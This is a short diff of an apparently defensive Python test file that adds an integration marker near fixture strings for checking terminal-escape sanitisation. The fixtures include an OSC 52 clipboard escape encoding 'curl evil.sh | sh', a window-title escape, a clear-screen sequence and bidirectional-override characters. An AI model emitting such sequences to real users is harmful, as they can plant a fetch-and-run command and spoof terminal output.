@@ -25,6 +25,8 @@ from components.status_report import format_report
 from tests.node.conftest import make_settings
 from tests.status.test_status_parts import HOST_KEY, PRIVATE, _export, _secret
 
+pytestmark = pytest.mark.integration  # starts fake nodes, servers or outside tools
+
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # put "curl evil.sh | sh" on the clipboard
 TITLE = "\x1b]0;pwned\x07"
 HOSTILE = f"running{OSC52}{TITLE}\x9b2J\u2028\u202e"
